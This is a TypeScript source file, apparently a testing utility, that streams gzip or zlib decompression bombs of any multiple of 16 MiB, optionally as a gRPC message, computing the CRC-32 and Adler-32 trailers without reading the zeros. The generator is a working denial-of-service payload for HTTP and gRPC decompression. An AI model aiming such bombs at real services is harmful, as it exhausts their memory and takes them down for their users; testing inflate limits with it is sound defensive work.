/**
 * Decompression bombs of any size, generated as a stream and never held whole: a run of zeros in
 * gzip (RFC 1952) or zlib (RFC 1950, HTTP's `deflate`), optionally as one gRPC length-prefixed
 * message. 7 GiB of zeros is about 7.3 MB compressed, and is produced in milliseconds.
 *
 * How: 16 MiB of zeros is compressed once as raw deflate ending in a full flush, which leaves the
 * blocks byte-aligned, not final, and referring to nothing before them, so the same bytes can be
 * repeated any number of times; an empty final block ends the stream. The trailers are computed
 * without reading the zeros: Adler-32 of n zeros is (n mod 65521) << 16 | 1, and CRC-32 of n zeros
 * is the CRC register's zero-byte step (linear over GF(2)) raised to the n-th power.
 */
import { constants, deflateRawSync } from 'node:zlib'

export type BombFormat = 'gzip' | 'deflate'

export interface ZeroBomb {
  /** Bytes on the wire (compressed, and framed for gRPC). */
  length: number
  /** Bytes it inflates to. */
  inflatedLength: number
  /** The bytes, piece by piece (the same repeated piece is yielded again and again). */
  pieces(): Generator<Uint8Array>
}

/** Zeros per repeated piece; a bomb's inflated size is a whole number of these. */
export const BOMB_UNIT_BYTES = 16 * 1024 * 1024

let unit: Uint8Array | null = null
const repeatedUnit = () => {
  unit ??= deflateRawSync(new Uint8Array(BOMB_UNIT_BYTES), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  return unit
}
/** An empty block with BFINAL set (fixed Huffman, end-of-block only). */
const FINAL_BLOCK = Uint8Array.of(0x03, 0x00)

/** CRC-32 (as gzip computes it) of `n` zero bytes, without reading them. */
export function crc32OfZeros(n: number): number {
  // A 32x32 GF(2) matrix as 32 columns: column i is the image of register bit i.
  const apply = (matrix: Uint32Array, vector: number) => {
    let result = 0
    for (let i = 0, v = vector >>> 0; v !== 0; i++, v >>>= 1) if (v & 1) result ^= matrix[i]!
    return result >>> 0
  }
  const square = (matrix: Uint32Array) => matrix.map((column) => apply(matrix, column))
  let step = new Uint32Array(32)
  for (let i = 0; i < 32; i++) {
    let register = (1 << i) >>> 0
    for (let bit = 0; bit < 8; bit++) register = register & 1 ? (register >>> 1) ^ 0xedb88320 : register >>> 1
    step[i] = register >>> 0
  }
  let register = 0xffffffff
  for (let k = n; k > 0; k = Math.floor(k / 2)) {
    if (k % 2 === 1) register = apply(step, register)
    if (k > 1) step = square(step)
  }
  return (register ^ 0xffffffff) >>> 0
}

/** `inflatedBytes` of zeros (a multiple of 16 MiB) as gzip or zlib, optionally one gRPC message. */
export function zeroBomb(
  inflatedBytes: number,
  format: BombFormat,
  options: { grpc?: boolean } = {},
): ZeroBomb {
  if (inflatedBytes <= 0 || inflatedBytes % BOMB_UNIT_BYTES !== 0) {
    throw new Error(`a bomb inflates to a positive multiple of ${BOMB_UNIT_BYTES} bytes`)
  }
  const units = inflatedBytes / BOMB_UNIT_BYTES
  const piece = repeatedUnit()
  const view = (bytes: Uint8Array) => new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)
  let header: Uint8Array
  let trailer: Uint8Array
  if (format === 'gzip') {
    // ID1 ID2 CM=deflate FLG=0 MTIME=0 XFL=2 (best compression) OS=255 (unknown)
    header = Uint8Array.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 0xff)
    trailer = new Uint8Array(8)
    view(trailer).setUint32(0, crc32OfZeros(inflatedBytes), true)
    view(trailer).setUint32(4, inflatedBytes % 2 ** 32, true)
  } else {
    header = Uint8Array.of(0x78, 0xda) // deflate, 32 KiB window, best compression (check bits valid)
    trailer = new Uint8Array(4)
    view(trailer).setUint32(0, (((inflatedBytes % 65521) << 16) | 1) >>> 0, false)
  }
  const compressed = header.length + units * piece.length + FINAL_BLOCK.length + trailer.length
  let prefix: Uint8Array | null = null
  if (options.grpc) {
    prefix = new Uint8Array(5)
    prefix[0] = 1 // compressed with the grpc-encoding
    view(prefix).setUint32(1, compressed, false)
  }
  return {
    length: compressed + (prefix?.length ?? 0),
    inflatedLength: inflatedBytes,
    *pieces() {
      if (prefix) yield prefix
      yield header
      for (let i = 0; i < units; i++) yield piece
      yield FINAL_BLOCK
      yield trailer
    },
  }
}
